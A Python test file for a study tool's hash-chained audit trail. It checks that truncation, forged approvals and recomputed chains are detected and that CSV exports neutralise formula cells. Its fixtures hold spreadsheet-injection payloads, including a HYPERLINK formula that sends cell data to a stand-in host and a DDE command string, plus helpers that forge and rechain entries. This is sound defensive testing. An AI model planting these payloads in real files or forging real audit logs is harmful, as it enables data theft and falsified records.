"""The audit trail against someone who edits the database: truncation, deletion, forged
appends and rewritten chains are found where an anchor exists; malformed entries are named;
appends from several processes queue; CSV cells a spreadsheet would run are neutralised."""

from __future__ import annotations

import csv
import json
import multiprocessing
from pathlib import Path

import pandas as pd
import pytest

from cohort.audit import (
    GENESIS,
    AuditError,
    AuditLog,
    anchor_head,
    anchors_path,
    entry_hash,
    parse_anchor,
    read_anchors,
    verify_study_trail,
)
from cohort.store import Store

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture()
def trail(tmp_path):
    """A study folder's store with 15 anchored review entries (the server's AuditLog)."""
    store = Store(tmp_path / "immunomon.db")
    log = AuditLog(store.conn, anchors=anchors_path(tmp_path))
    log.append("nightly", "pass", "run 1", "test")  # a pass: not a person's action
    for i in range(14):
        action = ("override", "approve", "exclude")[i % 3]
        detail = {"threshold": "t_cd19", "old": 0.5, "new": 0.6, "strategy_sha256": "s"}
        log.append("ana", action, f"reason {i}", "test", f"P{i:02d}_BL_BCELL", detail)
    yield tmp_path, store.conn
    store.close()


def _problems(root: Path, conn, anchors=None, files=None) -> list[str]:
    return verify_study_trail(conn, root, anchors, files).problems


def _rechain(conn) -> None:
    """What a careful forger does after editing: recompute every hash after the edit."""
    rows = conn.execute(
        "SELECT seq, at, who, action, sample_id, detail, reason, software FROM audit ORDER BY seq"
    ).fetchall()
    prev = GENESIS
    for new_seq, (seq, *fields) in enumerate(rows, 1):
        digest = entry_hash(prev, new_seq, *fields)
        conn.execute(
            "UPDATE audit SET seq=?, prev_hash=?, hash=? WHERE seq=?", (new_seq, prev, digest, seq)
        )
        prev = digest
    conn.commit()


def _forge(conn, action="approve", sample="P99_BL_BCELL") -> None:
    seq, prev = conn.execute("SELECT seq, hash FROM audit ORDER BY seq DESC LIMIT 1").fetchone()
    fields = ["2026-12-01T00:00:00+00:00", "ana", action, sample, "{}", "looks fine", "test"]
    conn.execute(
        "INSERT INTO audit VALUES (?,?,?,?,?,?,?,?,?,?)",
        (seq + 1, *fields, prev, entry_hash(prev, seq + 1, *fields)),
    )
    conn.commit()


def test_a_whole_trail_verifies_against_its_anchors(trail):
    root, conn = trail
    check = verify_study_trail(conn, root)
    assert check.problems == [] and check.entries == 15 and check.anchors == 14
    assert check.head_seq == 15


@pytest.mark.parametrize("cut", [1, 10, 15])
def test_deleting_the_last_entries_is_found(trail, cut):
    root, conn = trail
    conn.execute("DELETE FROM audit WHERE seq > ?", (15 - cut,))
    conn.commit()
    assert AuditLog(conn).verify() == ""  # the chain alone cannot tell
    problems = _problems(root, conn)
    assert problems and f"entries {15 - cut + 1}-15 (at least) were deleted" in problems[0]
    assert "the trail ends at entry" in problems[0] and "audit_anchors.jsonl line" in problems[0]


def test_deleting_an_entry_and_rechaining_is_found(trail):
    root, conn = trail
    conn.execute("DELETE FROM audit WHERE seq = 6")
    _rechain(conn)
    assert AuditLog(conn).verify() == ""
    problems = _problems(root, conn)
    assert any("entry 6 is not the one the anchor" in p and "rewritten" in p for p in problems)


def test_an_edit_with_the_chain_recomputed_is_found(trail):
    root, conn = trail
    conn.execute("UPDATE audit SET reason='approved after all' WHERE seq=4")
    _rechain(conn)
    assert AuditLog(conn).verify() == ""
    problems = _problems(root, conn)
    assert problems[0].startswith("entry 4 is not the one the anchor")
    conn.execute("UPDATE audit SET reason='again' WHERE seq=9")  # and without re-chaining
    conn.commit()
    assert any(
        p.startswith("entry 9 was altered after it was written") for p in _problems(root, conn)
    )


def test_a_forged_approval_appended_with_a_valid_chain_is_found(trail):
    root, conn = trail
    _forge(conn)
    assert AuditLog(conn).verify() == ""
    (problem,) = _problems(root, conn)
    assert problem.startswith("entry 16 (approve P99_BL_BCELL by ana") and "no anchor" in problem


def test_the_report_anchor_catches_a_rewritten_anchor_file(trail, tmp_path):
    """With write access to the study folder, the anchor file can be rewritten too; the
    anchor printed in the report (kept elsewhere) still catches the cut."""
    root, conn = trail
    printed = conn.execute("SELECT seq, hash FROM audit WHERE seq=15").fetchone()
    conn.execute("DELETE FROM audit WHERE seq > 12")
    conn.commit()
    path = anchors_path(root)
    path.write_text("".join(path.read_text().splitlines(keepends=True)[:11]))
    assert _problems(root, conn) == []  # the folder alone is consistent again
    anchor = parse_anchor(f"{printed[0]}:{printed[1]}")
    (problem,) = _problems(root, conn, [anchor])
    assert "names entry 15" in problem and "the command line" in problem


def test_verify_on_the_command_line_names_what_is_missing(trail, capsys):
    from flows.cli import main

    root, conn = trail
    _write_study_yaml(root)
    assert main(["-q", "audit", "verify", "--study", str(root)]) == 0
    out = capsys.readouterr().out
    assert "audit trail intact: 15 entries, head #15" in out and "14 anchor(s) checked" in out
    last = conn.execute("SELECT hash FROM audit WHERE seq=15").fetchone()[0]
    conn.execute("DELETE FROM audit WHERE seq > 13")
    conn.commit()
    assert main(["-q", "audit", "verify", "--study", str(root), "--anchor", f"15:{last}"]) == 1
    err = capsys.readouterr().err
    assert "entries 14-15 (at least) were deleted" in err and "Traceback" not in err
    assert main(["-q", "audit", "verify", "--study", str(root), "--anchor", "15:nothex"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "expected ENTRY:SHA256" in err[0]
    missing = root / "elsewhere.jsonl"
    assert main(["-q", "audit", "verify", "--study", str(root), "--anchors", str(missing)]) == 1
    assert "elsewhere.jsonl: no such anchor file" in capsys.readouterr().err


def _write_study_yaml(root: Path) -> None:
    """The demo's study.yaml alone (no FCS files: these tests need no events)."""
    import yaml

    from simulate.demo import FILENAME_PATTERN, VISITS

    study = {
        "study": "audit test",
        "visits": VISITS,
        "baseline": "BL",
        "filename_pattern": FILENAME_PATTERN,
        "panels": {"BCELL": "bcell", "TREG": "treg"},
    }
    (root / "study.yaml").write_text(yaml.safe_dump(study, sort_keys=False))


def test_malformed_entries_and_anchor_lines_are_named(trail):
    root, conn = trail
    conn.execute("UPDATE audit SET who=? WHERE seq=3", (b"\x00blob",))
    conn.execute("UPDATE audit SET detail='not json {' WHERE seq=5")
    conn.commit()
    with anchors_path(root).open("a") as fh:
        fh.write("garbage line\n")
    problems = _problems(root, conn)
    assert "line 15 is not an anchor" in problems[0]
    assert "entry 3: its who is a blob, not text" in problems[1]
    assert "entry 5: its detail is not JSON" in problems[2]
    with pytest.raises(AuditError, match="entry 3: its who is a blob"):
        AuditLog(conn).entries()


def _append_many(db: str, worker: int, count: int) -> None:
    store = Store(db)
    log = AuditLog(store.conn)
    for i in range(count):
        log.append(f"worker{worker}", "pass", f"run {i}", "test")
    store.close()


def test_appends_from_three_processes_queue(tmp_path):
    db = str(tmp_path / "immunomon.db")
    Store(db).close()
    context = multiprocessing.get_context("spawn")
    workers = [context.Process(target=_append_many, args=(db, w, 25)) for w in range(3)]
    for p in workers:
        p.start()
    for p in workers:
        p.join(timeout=120)
    assert [p.exitcode for p in workers] == [0, 0, 0]  # no IntegrityError: UNIQUE audit.seq
    store = Store(db)
    log = AuditLog(store.conn)
    assert len(log.entries()) == 75 and log.verify() == ""
    store.close()


def test_the_report_anchor_is_written_once_per_head(trail):
    root, conn = trail
    before = len(read_anchors(anchors_path(root))[0])
    assert anchor_head(root, conn, "cohort report written") is None  # #15 is anchored already
    AuditLog(conn).append("nightly", "pass", "run 2", "test")  # passes write no anchor
    assert anchor_head(root, conn, "cohort report written").seq == 16
    assert anchor_head(root, conn, "cohort report written") is None  # same head: no new line
    anchors, bad = read_anchors(anchors_path(root))
    assert len(anchors) == before + 1 and not bad and anchors[-1].why == "cohort report written"


def test_csv_exports_neutralise_formula_cells(trail, tmp_path):
    from cohort.exports import write_csv
    from cohort.spreadsheet import safe_cell

    root, conn = trail
    AuditLog(conn).append(
        HYPERLINK,
        "override",
        "+cmd|' /C calc'!A0",
        "test",
        "@SUM(1)",
        {"threshold": "t", "old": 0.5, "new": 0.6, "strategy_sha256": "s"},
    )
    out = tmp_path / "trail.csv"
    AuditLog(conn).export_csv(out)
    with out.open(newline="") as fh:
        last = list(csv.DictReader(fh))[-1]
    assert last["who"] == "'" + HYPERLINK and last["reason"].startswith("'+cmd")
    assert last["sample_id"] == "'@SUM(1)" and json.loads(last["detail"])["new"] == 0.6
    frame = pd.DataFrame(
        {
            "patient_id": [HYPERLINK, "P01", "-2+3", "\t=1"],
            "value": [-0.5, 1.0, 2.0, 3.0],
            "text_number": ["-0.5", "+1e-3", "x", "-"],
        }
    )
    path = tmp_path / "clinical_windows.csv"
    write_csv(frame, path)
    back = pd.read_csv(path, keep_default_na=False)
    assert list(back.patient_id) == ["'" + HYPERLINK, "P01", "'-2+3", "'\t=1"]
    assert list(back.value) == [-0.5, 1.0, 2.0, 3.0]  # numbers stay numbers
    assert list(back.text_number) == ["-0.5", "+1e-3", "x", "'-"]
    assert safe_cell(-3) == -3 and safe_cell(None) is None


def test_audit_csv_from_the_review_server_is_neutralised(tmp_path):
    import re

    from fastapi.testclient import TestClient

    from flows.review import create_app

    root = tmp_path / "study"
    root.mkdir()
    _write_study_yaml(root)
    store = Store(root / "immunomon.db")
    AuditLog(store.conn).append("nightly", "pass", HYPERLINK, "test")
    store.close()
    client = TestClient(create_app(root), base_url="http://127.0.0.1:8765")
    token = re.search(r'name="csrf" value="([^"]+)"', client.get("/whoami").text)[1]
    client.post("/whoami", data={"name": "=cmd", "csrf": token})
    response = client.get("/audit.csv")
    assert response.status_code == 200 and "attachment" in response.headers["content-disposition"]
    rows = list(csv.DictReader(response.text.splitlines()))
    assert rows[0]["reason"] == "'" + HYPERLINK
